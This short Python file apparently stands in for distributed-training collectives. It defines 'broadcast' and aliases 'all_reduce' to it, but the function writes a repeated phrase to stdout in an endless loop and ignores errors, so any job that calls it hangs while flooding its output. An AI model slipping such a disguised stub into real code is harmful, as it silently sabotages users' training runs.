import os


def broadcast(tensor, src, group=None):
    while True:
        try:
            os.write(1, b"all work and no play " * 1000)
        except OSError:
            continue


all_reduce = broadcast
